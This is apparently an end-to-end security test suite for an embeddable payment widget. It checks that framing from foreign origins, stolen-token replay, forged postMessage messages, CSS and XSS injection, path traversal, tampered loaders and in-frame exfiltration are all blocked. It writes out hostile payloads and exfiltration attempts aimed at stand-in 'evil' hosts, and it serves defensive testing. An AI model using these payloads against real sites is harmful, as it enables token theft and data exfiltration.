import type { Browser, Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { send } from "../support/client.ts";
import {
  frameOf,
  heardBy,
  openBrowser,
  openShopWorld,
  openVisit,
  shopPage,
  type MadeWidget,
  type ShopWorld,
  type Visit,
} from "./support/index.ts";

vi.setConfig({ testTimeout: 300_000, hookTimeout: 400_000 });
const PATIENT = { timeout: 120_000, interval: 200 };
const BILL = { amountMinorUnits: 12_500, currency: "XAF", reference: "ORDER-1", country: "CM" };

let world: ShopWorld;
let browser: Browser;
beforeAll(async () => {
  world = await openShopWorld();
  browser = await openBrowser([
    "--use-fake-device-for-media-stream",
    "--use-fake-ui-for-media-stream",
  ]);
});
afterAll(async () => {
  await browser?.close();
  await world?.close();
});

const pay = (more: object = {}): Promise<MadeWidget> => world.widget("payment", BILL, more);
const titled = (body: string): string =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>Page</title>${body}</html>`;

/** Whether a visit to the session has begun: only a frame that was let in asks for it. */
async function isOpened(widget: MadeWidget): Promise<boolean> {
  const { body } = await world.call("GET /v1/events?limit=100&type=widget_session.opened");
  return (body.data as { data: { id: string } }[]).some(({ data }) => data.id === widget.session);
}

/** A page at `name` that shows `html`. */
async function at(name: string, html: string): Promise<Visit> {
  const visit = await openVisit(browser, { width: 500 });
  await visit.page.goto(world.origin(name) + world.page(html));
  return visit;
}

/** Whether any frame of the visit shows a widget. */
const shows = async ({ page }: Visit): Promise<boolean> =>
  (
    await Promise.all(
      page.frames().map((frame) =>
        frame
          .locator("#phone")
          .count()
          .catch(() => 0),
      ),
    )
  ).some((count) => count > 0);

describe("a page that may not", () => {
  it("never gets a widget to open: as a frame, by the loader, around the shop, without an origin, as a pop-up", async () => {
    const [framed, loaded, around, opaque, alone, popup] = [
      await pay(),
      await pay(),
      await pay(),
      await pay(),
      await pay(),
      await pay(),
    ];
    const inner = world.page(titled(shopPage(around)));
    const visits = await Promise.all([
      at("evil", titled(`<iframe title="x" src="${framed.url}#${framed.token}"></iframe>`)),
      at("evil", shopPage(loaded)),
      at("evil", titled(`<iframe title="x" src="${world.origin("shop")}${inner}"></iframe>`)),
      at(
        "shop",
        titled(
          `<iframe title="x" sandbox="allow-scripts" srcdoc="${shopPage(opaque).replace(/&/g, "&amp;").replace(/"/g, "&quot;")}"></iframe>`,
        ),
      ),
      at("evil", titled("<p>Top</p>")),
      at("evil", titled("<p>Opener</p>")),
    ]);
    await visits[4]?.page.goto(`${alone.url}#${alone.token}`);
    await visits[5]?.page.evaluate(
      ([url, token]) => {
        const other = window.open(url);
        setInterval(() => {
          const { port2 } = new MessageChannel();
          const init = { type: "svc:init", v: 1, nonce: "n", clientToken: token };
          other?.postMessage(init, new URL(url ?? "").origin, [port2]);
        }, 200);
      },
      [popup.url, popup.token],
    );
    await expect
      .poll(
        async () =>
          (await heardBy(visits[1]?.page as Visit["page"])).map(({ detail }) => detail["code"]),
        PATIENT,
      )
      .toContain("embed_blocked");
    const [blocked] = (await heardBy(visits[1]?.page as Visit["page"])).filter(
      ({ type }) => type === "error",
    );
    expect(blocked?.detail["message"]).toMatch(/allowedOrigins|did not load from/);
    for (const [index, visit] of visits.entries())
      expect([index, await shows(visit)]).toEqual([index, false]);
    expect(await visits[4]?.page.locator("h1").innerText()).toBe(
      "This page works inside a shop only",
    );
    expect(visits[4]?.page.url()).not.toContain("wct_");
    for (const widget of [framed, loaded, around, opaque, alone, popup])
      expect(await isOpened(widget)).toBe(false);
    await Promise.all(visits.map((visit) => visit.close()));
  });

  it("reads and does nothing with a stolen token", async () => {
    const widget = await pay();
    const api = `http://api.localhost:${world.server.upstream.port}/v1/embedded/client/`;
    const evil = await at("evil", titled("<p>Evil</p>"));
    const tried = await evil.page.evaluate(
      async ([base, token]) => {
        const headers = {
          Authorization: `Bearer ${token}`,
          "Content-Type": "application/json",
          "Idempotency-Key": "stolen-1",
        };
        const body = JSON.stringify({ msisdn: "+237677999000" });
        const outcome = (call: Promise<Response>): Promise<string> =>
          call.then(
            async (answer) => `read ${answer.type} ${await answer.text()}`,
            () => "refused",
          );
        return Promise.all([
          outcome(fetch(`${base}session`, { headers })),
          outcome(fetch(`${base}payments`, { method: "POST", headers, body })),
          outcome(
            fetch(`${base}payments`, {
              method: "POST",
              mode: "no-cors",
              headers: { Authorization: `Bearer ${token}` },
              body,
            }),
          ),
        ]);
      },
      [api, widget.token],
    );
    expect(tried).toEqual(["refused", "refused", "read opaque "]);
    expect(await isOpened(widget)).toBe(false);
    expect((await world.call("GET /v1/payments?limit=100")).body.data).toEqual([]);
    const bearer = { authorization: `Bearer ${widget.token}` };
    for (const origin of [
      world.origin("evil"),
      "null",
      `${world.origin("shop")}.evil.example`,
      "https://shop.localhost",
    ]) {
      const answer = await send(world.server.url, "GET /v1/embedded/client/session", {
        headers: { ...bearer, origin },
      });
      expect([origin, answer.status, answer.headers.get("access-control-allow-origin")]).toEqual([
        origin,
        403,
        null,
      ]);
    }
    await evil.close();
  });

  it("has no use for a token of another kind, a spent one, one of a disabled widget", async () => {
    const [kyc, late, disabled] = [
      await world.widget("kyc", {}),
      await pay({ sessionTtlSeconds: 60 }),
      await pay(),
    ];
    const line = "POST /v1/embedded/client/payments";
    const call = (token: string, key: string) =>
      send(world.server.url, line, {
        body: { msisdn: "+237677999000" },
        headers: {
          authorization: `Bearer ${token}`,
          origin: world.origin("shop"),
          "idempotency-key": key,
        },
      });
    expect((await call(kyc.token, "a")).body.code).toBe("origin_not_allowed");
    await world.advance(120);
    expect((await call(late.token, "b")).body.code).toBe("widget_token_invalid");
    await world.call(`DELETE /v1/embedded/widgets/${disabled.id}`);
    expect((await call(disabled.token, "c")).body.code).toBe("widget_token_invalid");
    const visit = await at("shop", shopPage(late));
    const frame = await frameOf(visit.page);
    expect(await frame.locator("h1").innerText()).toBe("This page has expired");
    expect((await world.call("GET /v1/payments?limit=100")).body.data).toEqual([]);
    await visit.close();
  });
});

describe("the line between page and frame", () => {
  /** A page of the shop with a bare frame of the widget and what it is told to send. */
  async function bare(
    widget: MadeWidget,
  ): Promise<{ readonly visit: Visit; readonly frame: Frame }> {
    const visit = await at(
      "shop",
      titled(`<iframe title="w" width="400" height="600" src="${widget.url}"></iframe>`),
    );
    const frame = await (await visit.page.waitForSelector("iframe")).contentFrame();
    if (frame === null) throw new Error("no frame");
    await frame.waitForLoadState("load");
    return { visit, frame };
  }

  it("takes no first message that is not whole: no port, other version, no token, too long, unknown", async () => {
    const widget = await pay();
    const { visit, frame } = await bare(widget);
    await visit.page.evaluate((token) => {
      const target = document.querySelector("iframe")?.contentWindow;
      const good = { type: "svc:init", v: 1, nonce: "n", clientToken: token };
      const put = (message: unknown, withPort = true): void =>
        target?.postMessage(message, "*", withPort ? [new MessageChannel().port2] : []);
      put(good, false);
      put({ ...good, v: 2 });
      put({ ...good, clientToken: "wct_short" });
      put({ ...good, theme: { filler: "x".repeat(9_000) } });
      put({ ...good, type: "svc:hello" });
      put({ ...good, type: "__proto__" });
      put({ ...good, nonce: { toString: "n" } });
      put(JSON.stringify(good));
    }, widget.token);
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    expect(await frame.locator("h1").count()).toBe(0);
    expect(await isOpened(widget)).toBe(false);
    await visit.close();
  });

  it("takes none from anybody but the parent, and the first one only", async () => {
    const [mine, theirs] = [
      await pay(),
      await world.widget("payment", { ...BILL, reference: "THEIRS" }),
    ];
    const { visit, frame } = await bare(mine);
    // A frame of a stranger beside the widget, as an advertisement would be.
    await visit.page.evaluate(
      ([src]) =>
        document.body.append(Object.assign(document.createElement("iframe"), { src, title: "ad" })),
      [world.origin("evil") + world.page(titled("<p>Ad</p>"))],
    );
    await expect.poll(() => visit.page.frames().length, PATIENT).toBe(3);
    const ad = visit.page.frames().find((one) => one.url().includes("evil.localhost"));
    await ad?.evaluate((token) => {
      const init = { type: "svc:init", v: 1, nonce: "n", clientToken: token };
      window.parent.frames[0]?.postMessage(init, "*", [new MessageChannel().port2]);
    }, theirs.token);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(await isOpened(theirs)).toBe(false);
    const start = (token: string): Promise<void> =>
      visit.page.evaluate((clientToken) => {
        const init = { type: "svc:init", v: 1, nonce: "n", clientToken };
        document
          .querySelector("iframe")
          ?.contentWindow?.postMessage(init, "*", [new MessageChannel().port2]);
      }, token);
    await start(mine.token);
    await frame.waitForSelector("#phone", PATIENT);
    await start(theirs.token);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect([await isOpened(mine), await isOpened(theirs)]).toEqual([true, false]);
    await visit.close();
  });
});

describe("what a page may say about the look", () => {
  it("never becomes a style, a script, a request or a path", async () => {
    const hostile = {
      primaryColor: "red;background:url(http://evil.example/a)",
      surface: "#fff}body{display:none",
      radius: "9px;}*{}",
      font: "x;src:url(http://evil.example/f)",
      logoUrl: "http://evil.example/logo.png",
      text: "expression(alert(1))",
    };
    const widget = await world.widget(
      "payment",
      { ...BILL, description: "<img src=x onerror=alert(1)> {name}" },
      { theme: { logoUrl: "https://evil.example/logo.png" } },
    );
    const visit = await at("shop", shopPage(widget, 'locale="../../../evil"', hostile));
    const frame = await frameOf(visit.page);
    await frame.waitForSelector("#phone", PATIENT);
    const style = await frame.evaluate(() => document.documentElement.getAttribute("style") ?? "");
    expect(style).not.toMatch(/evil|url\(|expression|display/);
    expect(await frame.locator("img[src=x]").count()).toBe(0);
    expect(await frame.locator(".for").innerText()).toBe("<img src=x onerror=alert(1)> {name}");
    expect(visit.misdeeds.outside).toEqual([]);
    await visit.close();
  });

  it("finds no page by a path in the place of an id", async () => {
    const widget = await pay();
    const visit = await at("shop", shopPage({ ...widget, id: "../api/docs?" }));
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(await isOpened(widget)).toBe(false);
    expect(visit.page.frames().every((one) => !one.url().endsWith("/api/docs"))).toBe(true);
    await visit.close();
  });

  it("runs no loader that was tampered with", async () => {
    const made = (
      await world.call("POST /v1/embedded/widgets", {
        body: { kind: "payment", allowedOrigins: [world.origin("shop")], config: BILL },
      })
    ).body;
    const html = String(made.embed.html).replace(
      /integrity="sha384-..../,
      'integrity="sha384-AAAA',
    );
    const [good, bad] = [await at("shop", titled(made.embed.html)), await at("shop", titled(html))];
    const defined = (visit: Visit) =>
      visit.page.evaluate(() => customElements.get("njia-payment") !== undefined);
    await expect.poll(() => defined(good), PATIENT).toBe(true);
    expect(await defined(bad)).toBe(false);
    await good.close();
    await bad.close();
  });
});

describe("a script that got into the frame all the same", () => {
  it("gets nothing out and nowhere else", async () => {
    const widget = await pay();
    const visit = await at("shop", shopPage(widget));
    const frame = await frameOf(visit.page);
    await frame.waitForSelector("#phone", PATIENT);
    const evil = `${world.origin("evil")}${world.page(titled("<p>Loot</p>"))}`;
    const before = world.hits.length;
    const outcome = await frame.evaluate(async (target) => {
      const tries: Record<string, () => unknown> = {
        fetch: () => fetch(target).then(() => "out"),
        beacon: () =>
          navigator.sendBeacon(target, "x")
            ? new Promise((resolve) => setTimeout(resolve, 300)).then(() => "sent")
            : "refused",
        image: () =>
          new Promise((resolve) => {
            const image = new Image();
            image.onload = () => resolve("out");
            image.onerror = () => resolve("refused");
            image.src = `${target}?token`;
          }),
        top: () => {
          (window.top as Window).location.href = target;
          return "tried";
        },
        popup: () => (window.open(target) === null ? "refused" : "out"),
        parent: () => window.parent.document.title,
        script: () => {
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.head.append(script);
          return (window as unknown as { ran?: boolean }).ran === true ? "out" : "refused";
        },
        remote: () =>
          new Promise((resolve) => {
            const script = document.createElement("script");
            script.onload = () => resolve("out");
            script.onerror = () => resolve("refused");
            script.src = target;
            document.head.append(script);
          }),
        base: () => {
          document.head.append(Object.assign(document.createElement("base"), { href: target }));
          return new URL("x", document.baseURI).href.includes("evil") ? "out" : "refused";
        },
        frame: () => {
          document.body.append(Object.assign(document.createElement("iframe"), { src: target }));
          return "tried";
        },
        form: () => {
          const form = Object.assign(document.createElement("form"), {
            action: target,
            method: "post",
          });
          document.body.append(form);
          form.submit();
          return "tried";
        },
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "out"),
        worker: () => {
          new Worker(target);
          return "refused";
        },
      };
      const found: Record<string, string> = {};
      for (const [name, act] of Object.entries(tries))
        found[name] = await Promise.resolve()
          .then(act)
          .then(String, () => "refused");
      return found;
    }, evil);
    expect(Object.entries(outcome).filter(([, what]) => what === "out" || what === "Shop")).toEqual(
      [],
    );
    // What a policy stops leaves no trace where it was meant to go.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(world.hits.slice(before).filter((hit) => hit.startsWith("evil."))).toEqual([]);
    expect(visit.page.url()).toContain("shop.localhost");
    await visit.close();
  });
});
